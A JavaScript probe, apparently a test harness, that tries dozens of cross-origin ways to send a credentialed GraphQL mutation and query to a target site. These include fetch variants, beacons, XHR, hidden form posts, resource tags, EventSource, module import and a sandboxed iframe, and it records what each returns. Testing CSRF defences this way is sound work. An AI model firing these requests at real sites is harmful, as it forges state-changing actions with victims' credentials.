// What a page of somebody else can try, one after the other; gives what it could learn of each.
(async (home, mutation, query) => {
  const told = {}, url = home + '/graphql', accept = 'application/graphql-response+json';
  const get = (document) => url + '?query=' + encodeURIComponent(document);
  const within = (ms, promise) => Promise.race([promise, new Promise((done) => setTimeout(() => done('silence'), ms))]);
  const attempt = async (name, work) => {
    try { told[name] = String(await within(3000, work())); } catch (error) { told[name] = 'refused: ' + error; }
  };
  const read = async (answer) => answer.type + ' ' + answer.status + ' ' + await answer.text();
  const body = JSON.stringify({ query: mutation });

  const kinds = { urlencoded: 'application/x-www-form-urlencoded', plain: 'text/plain', none: '', odd: 'text/plain;application/json' };
  for (const [name, type] of Object.entries(kinds))
    for (const mode of ['no-cors', 'cors'])
      await attempt(`post ${name} ${mode}`, async () => read(await fetch(url, { method: 'POST', mode, credentials: 'include',
        headers: type ? { 'content-type': type } : {}, body: name === 'urlencoded' ? 'query=' + encodeURIComponent(mutation)
          : name === 'none' ? new Blob([body]) : body })));
  for (const headers of [{ 'content-type': 'application/json' }, { 'content-type': 'application/graphql-response+json' },
      { 'content-type': 'text/plain', 'graphql-require-preflight': '1' }, { authorization: 'Bearer x' }])
    await attempt('post ' + JSON.stringify(headers), async () =>
      read(await fetch(url, { method: 'POST', mode: 'cors', credentials: 'include', headers, body })));
  for (const method of ['PUT', 'DELETE', 'PATCH'])
    await attempt(method, async () => read(await fetch(url, { method, mode: 'cors', credentials: 'include', body })));
  await attempt('keepalive', async () => read(await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', keepalive: true, body })));
  await attempt('beacon', async () => navigator.sendBeacon(url, new Blob([body], { type: 'text/plain' })));
  await attempt('beacon json', async () => navigator.sendBeacon(url, new Blob([body], { type: 'application/json' })));
  await attempt('xhr', () => new Promise((done) => { const xhr = new XMLHttpRequest(); xhr.withCredentials = true;
    xhr.onloadend = () => done(xhr.status + ' ' + xhr.responseText); xhr.open('POST', url); xhr.send(body); }));

  for (const document of [mutation, query])
    for (const mode of ['no-cors', 'cors'])
      for (const type of [accept, 'application/json', 'text/event-stream', '*/*'])
        await attempt(`get ${mode} ${type} ${document === query ? 'query' : 'mutation'}`, async () =>
          read(await fetch(get(document), { mode, credentials: 'include', headers: { accept: type } })));

  const multipart = (withFile) => { const form = new FormData();
    form.append('operations', JSON.stringify({ query: mutation, variables: { file: null } }));
    form.append('map', JSON.stringify(withFile ? { 0: ['variables.file'] } : {}));
    if (withFile) form.append('0', new File(['x'], 'x.html')); return form; };
  for (const withFile of [false, true])
    for (const mode of ['no-cors', 'cors'])
      await attempt(`multipart ${withFile} ${mode}`, async () => read(await fetch(url, { method: 'POST', mode, credentials: 'include', body: multipart(withFile) })));

  const submitted = (enctype, fields) => new Promise((done) => {
    const frame = document.createElement('iframe'); frame.name = 'f' + Math.random();
    const form = Object.assign(document.createElement('form'), { method: 'POST', action: url, enctype, target: frame.name });
    for (const [name, value] of Object.entries(fields))
      form.append(Object.assign(document.createElement('input'), { name, value }));
    frame.onload = () => { try { done('loaded ' + frame.contentDocument?.body?.innerText); } catch (error) { done('closed'); } };
    document.body.append(frame, form); form.submit(); });
  await attempt('form urlencoded', () => submitted('application/x-www-form-urlencoded', { query: mutation }));
  await attempt('form plain', () => submitted('text/plain', { ['{"query":' + JSON.stringify(mutation) + ',"x":"']: '"}' }));
  await attempt('form multipart', () => submitted('multipart/form-data', { operations: body, map: '{}' }));

  const element = (tag, set) => new Promise((done) => {
    const one = document.createElement(tag);
    one.onload = () => { let seen = ''; try { seen = one.contentDocument?.body?.innerText ?? one.sheet?.cssRules.length ?? one.naturalWidth ?? ''; } catch (error) { seen = 'closed'; }
      done('loaded ' + seen); };
    one.onerror = () => done('error'); set(one); document.body.append(one); });
  for (const [name, address] of [['mutation', get(mutation)], ['query', get(query)]]) {
    await attempt('image ' + name, () => element('img', (one) => { one.src = address; }));
    await attempt('image cors ' + name, () => element('img', (one) => { one.crossOrigin = 'use-credentials'; one.src = address; }));
    await attempt('script ' + name, () => element('script', (one) => { one.src = address; }));
    await attempt('style ' + name, () => element('link', (one) => { one.rel = 'stylesheet'; one.href = address; }));
    await attempt('prefetch ' + name, () => element('link', (one) => { one.rel = 'prefetch'; one.href = address; }));
    await attempt('preload ' + name, () => element('link', (one) => { one.rel = 'preload'; one.as = 'fetch'; one.crossOrigin = 'use-credentials'; one.href = address; }));
    await attempt('object ' + name, () => element('object', (one) => { one.data = address; }));
    await attempt('embed ' + name, () => element('embed', (one) => { one.src = address; }));
    await attempt('video ' + name, () => element('video', (one) => { one.src = address; one.preload = 'auto'; }));
    await attempt('iframe ' + name, () => element('iframe', (one) => { one.src = address; }));
  }
  await attempt('eventsource', () => new Promise((done) => {
    const source = new EventSource(get('subscription { events { cursor } }'), { withCredentials: true });
    source.onopen = () => done('open'); source.onmessage = (event) => done(event.data);
    source.onerror = () => { source.close(); done('error'); }; }));
  await attempt('worker', async () => { try { return String(new Worker(url)); } catch (error) { return 'refused ' + error; } });
  await attempt('module', async () => Object.keys(await import(get(query))));
  await attempt('sandbox', () => new Promise((done) => {
    addEventListener('message', (event) => done(event.data), { once: true });
    const frame = document.createElement('iframe'); frame.sandbox = 'allow-scripts allow-forms';
    frame.srcdoc = `<script>fetch(${JSON.stringify(url)}, { method: 'POST', credentials: 'include', body: ${JSON.stringify(body)} })
      .then((answer) => answer.text()).then((text) => parent.postMessage(text, '*'), (error) => parent.postMessage('refused ' + error, '*'))<\/script>`;
    document.body.append(frame); }));
  return told;
})
